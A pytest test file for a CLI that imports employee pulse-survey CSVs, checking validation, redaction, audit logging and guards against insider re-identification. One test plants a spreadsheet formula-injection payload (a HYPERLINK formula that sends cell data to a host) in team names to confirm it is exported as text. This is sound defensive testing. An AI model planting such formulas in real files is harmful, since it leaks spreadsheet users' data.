import csv
import io
import sys
from datetime import date

import pytest
from sqlalchemy import func, select, text

from research.cli import main
from research.store.engine import make_engine, session_scope
from research.store.models import PulseAnswer, PulseResponse

HEADER = "Team,When,Q1,NPS,Comment\n"


def run(argv, monkeypatch):
    monkeypatch.setattr(sys, "stdin", io.StringIO(""))
    return main(argv)


@pytest.fixture
def wave(cli_env, wave_ids):
    return cli_env


def counts(db_url):
    engine = make_engine(db_url)
    with session_scope(engine) as session:
        result = (session.scalar(select(func.count(PulseResponse.id))),
                  list(session.scalars(select(PulseAnswer.value_text).where(PulseAnswer.value_text.is_not(None)))))
    engine.dispose()
    return result


ARGS = ["pulse", "import", None, "--wave", "November pulse", "--map", "morale=Q1", "--map", "enps=NPS",
        "--map", "one_thing=Comment", "--segment-column", "Team", "--date-column", "When"]


def test_valid_rows_are_imported_redacted_and_bad_rows_reported(wave, tmp_path, monkeypatch, capsys):
    path = tmp_path / "export.csv"
    path.write_text(HEADER + "Billing,2026-11-21T14:03:00,4,9,Call me on 07700 900123\n"
                    "Chat,2026-11-21,6,9,too high\n"
                    "Nowhere,2026-11-21,3,5,unknown team\n"
                    "chat,21/11/2026,3,5,bad date\n"
                    "Chat,2026-11-20,2,3,Die Schichtplanung ist chaotisch 😡\n", encoding="utf-8")
    assert run([a if a else str(path) for a in ARGS], monkeypatch) == 0
    out = capsys.readouterr().out
    assert "imported 2 response(s); rejected 3" in out
    assert "line 3: “How is your morale at work these days?” takes a value from 1 to 5, not 6." in out
    assert "line 4: segment 'Nowhere' is not in wave" in out
    assert "line 5: date '21/11/2026' is not YYYY-MM-DD" in out
    n, texts = counts(wave["FRONTLINE_DATABASE_URL"])
    assert n == 2 and sorted(texts) == ["Call me on [phone]", "Die Schichtplanung ist chaotisch 😡"]
    # In the audit trail like links and headcounts (an insider review: imports were the one way in it missed).
    from research.store.models import AuditEvent

    engine = make_engine(wave["FRONTLINE_DATABASE_URL"])
    with session_scope(engine) as session:
        trail = session.execute(select(AuditEvent.actor, AuditEvent.subject)
                                .where(AuditEvent.action == "responses_imported")).all()
    engine.dispose()
    assert [(actor.startswith("cli:"), subject) for actor, subject in trail] == [
        (True, "2 response(s) into November pulse from export.csv")]


def test_a_rejection_names_the_file_line_past_blank_lines_and_multi_line_cells(wave, tmp_path, monkeypatch, capsys):
    path = tmp_path / "export.csv"
    path.write_text(HEADER + 'Billing,2026-11-21,4,9,"two\nlines"\n\nChat,2026-11-21,6,9,too high\n', encoding="utf-8")
    assert run([a if a else str(path) for a in ARGS], monkeypatch) == 0
    out = capsys.readouterr().out
    assert "imported 1 response(s); rejected 1" in out
    assert "line 5: “How is your morale at work these days?” takes a value from 1 to 5, not 6." in out


@pytest.mark.parametrize(
    "content, message",
    [
        (b"", "export.csv is empty"),
        (b"\x89PNG\r\n\x1a\n\x00\x00", "binary file"),
        (HEADER.encode() + b"Billing,2026-11-21,4,9,caf\xe9\n",
         'export.csv is not UTF-8 text (byte 0xE9 in column 5 ("Comment"))'),
        (HEADER.encode(), "header but no rows"),
    ],
)
def test_malformed_files_get_one_line_and_change_nothing(wave, tmp_path, monkeypatch, capsys, content, message):
    path = tmp_path / "export.csv"
    path.write_bytes(content)
    assert run([a if a else str(path) for a in ARGS], monkeypatch) == 2
    err = capsys.readouterr().err
    assert message in err and err.count("\n") == 1
    assert counts(wave["FRONTLINE_DATABASE_URL"])[0] == 0


def test_mapping_mistakes_are_named(wave, tmp_path, monkeypatch, capsys):
    path = tmp_path / "export.csv"
    path.write_text(HEADER + "Billing,2026-11-21,4,9,fine\n")
    argv = [a if a else str(path) for a in ARGS]
    assert run(argv + ["--map", "shoe=Q1"], monkeypatch) == 2
    assert "unknown question(s) shoe" in capsys.readouterr().err
    assert run([*argv[:5], "--map", "morale=Q9", "--segment", "Billing"], monkeypatch) == 2
    assert "column(s) Q9 not in the file" in capsys.readouterr().err


def test_pulse_links_cli_prints_links_and_refuses_unknown_segment(wave, monkeypatch, capsys, tmp_path):
    assert run(["pulse", "links", "November pulse", "--segment", "billing", "--count", "3"], monkeypatch) == 0
    links = capsys.readouterr().out.split()
    assert len(links) == 3 and all(link.startswith("http://localhost:8501/pulse?t=") for link in links)
    assert run(["pulse", "links", "November pulse", "--segment", "Sales"], monkeypatch) == 2
    assert "choose one of: Billing, Chat" in capsys.readouterr().err
    out = tmp_path / "links.csv"
    assert run(["pulse", "links", "November pulse", "--segment", "Chat", "--open", "--csv", str(out)],
               monkeypatch) == 0
    assert out.read_text().splitlines()[0] == "wave,segment,kind,link"
    assert run(["pulse", "links", "November pulse", "--segment", "Chat", "--open", "--csv", str(out)],
               monkeypatch) == 2
    assert "already exists" in capsys.readouterr().err


def test_the_links_csv_from_the_cli_holds_no_formula(wave, wave_ids, engine, monkeypatch, tmp_path):
    """A team or wave named like a formula is written as text, as the Pulse links page writes it."""
    formula = '=HYPERLINK("http://127.0.0.1:9/?"&A1,"Click")'
    with engine.begin() as conn:
        conn.execute(text("UPDATE pulse_segments SET team = :t WHERE team = 'Chat'"), {"t": formula})
        conn.execute(text("UPDATE pulse_waves SET title = :t || title"), {"t": formula})
    out = tmp_path / "links.csv"
    assert run(["pulse", "links", str(wave_ids[0]), "--segment", formula, "--count", "2", "--csv", str(out)],
               monkeypatch) == 0
    rows = list(csv.reader(io.StringIO(out.read_text(encoding="utf-8"), newline="")))
    assert rows[0] == ["wave", "segment", "kind", "link"] and len(rows) == 3
    cells = [cell for row in rows[1:] for cell in row[:2]]
    assert all(cell.startswith("'" + formula) for cell in cells)  # kept whole, as text a spreadsheet will not run


def test_a_later_file_that_would_move_a_segment_by_fewer_than_a_step_is_refused(wave, tmp_path, monkeypatch, capsys):
    """An insider imported one more row into a team of twenty and read that person's answers off the change."""
    first, later, step = tmp_path / "first.csv", tmp_path / "later.csv", tmp_path / "step.csv"
    first.write_text(HEADER + "Billing,2026-11-21,2,5,slow tools\n" * 20, encoding="utf-8")
    later.write_text(HEADER + "Billing,2026-11-22,5,10,\n" + "Chat,2026-11-22,3,7,\n" * 5, encoding="utf-8")
    step.write_text(HEADER + "Billing,2026-11-22,5,10,\n" * 5, encoding="utf-8")
    assert run([a if a else str(first) for a in ARGS], monkeypatch) == 0
    capsys.readouterr()

    assert run([a if a else str(later) for a in ARGS], monkeypatch) == 2
    err = capsys.readouterr().err
    assert "already holds responses" in err and "Billing gets 1" in err and "Chat" not in err
    assert "Nothing was imported." in err and err.count("\n") == 1
    assert counts(wave["FRONTLINE_DATABASE_URL"])[0] == 20
    assert run([a if a else str(step) for a in ARGS], monkeypatch) == 0
    assert counts(wave["FRONTLINE_DATABASE_URL"])[0] == 25


def test_rows_dated_outside_the_wave_are_refused_and_the_rest_share_the_files_latest_day(
        wave, tmp_path, monkeypatch, capsys):
    """An insider imported rows each dated by its own day: whoever knew when a colleague answered could pick it."""
    path = tmp_path / "export.csv"
    path.write_text(HEADER + "Billing,2025-01-01,4,9,\n" + "Billing,2026-11-21,4,9,\n" * 3
                    + "Billing,2026-11-23 14:33:00,2,3,\n" + "Billing,2027-03-04,4,9,\n", encoding="utf-8")
    assert run([a if a else str(path) for a in ARGS], monkeypatch) == 0
    out = capsys.readouterr().out
    assert "imported 4 response(s); rejected 2" in out
    assert "line 2: date 2025-01-01 is outside the wave, which runs from 2026-11-20 to 2026-11-29" in out
    assert "line 7: date 2027-03-04 is outside the wave" in out
    engine = make_engine(wave["FRONTLINE_DATABASE_URL"])
    with session_scope(engine) as session:
        days = set(session.scalars(select(PulseResponse.submitted_on)))
    engine.dispose()
    assert {str(d) for d in days} == {"2026-11-23"}


def test_a_team_name_two_segments_share_is_refused_not_filed_under_one_of_them(engine, tmp_path):
    """An insider found rows for "Alpha" always filed under the Cardiff one of two Alpha segments."""
    from research.privacy.redaction import Redactor
    from research.privacy.reporting import Thresholds
    from research.pulse.importer import import_responses
    from research.pulse.library import QUESTION_LIBRARY
    from research.pulse.waves_admin import SegmentSpec, create_wave

    with session_scope(engine) as session:
        wave = create_wave(session=session, title="Two Alphas", opens_on=date(2026, 11, 1),
                           closes_on=date(2026, 11, 30), question_keys=[q.key for q in QUESTION_LIBRARY][:1],
                           segments=[SegmentSpec(team="Alpha", site="Leeds", channel="phone", industry="retail"),
                                     SegmentSpec(team="Alpha", site="Cardiff", channel="phone", industry="retail"),
                                     SegmentSpec(team="Beta", site="Leeds", channel="phone", industry="retail")])
        key = QUESTION_LIBRARY[0].key
        report = import_responses(session=session, wave=wave, rows=[{"t": "alpha", "m": "3"}, {"t": "Beta", "m": "3"}],
                                  mapping={key: "m"}, redactor=Redactor(), default_day=date(2026, 11, 2),
                                  segment_column="t", steps=Thresholds())
    assert report.imported == 1
    assert report.rejected == [(2, "segment 'alpha' is 2 segments of wave 'Two Alphas' (at Cardiff, Leeds); "
                                   "the file cannot say which")]
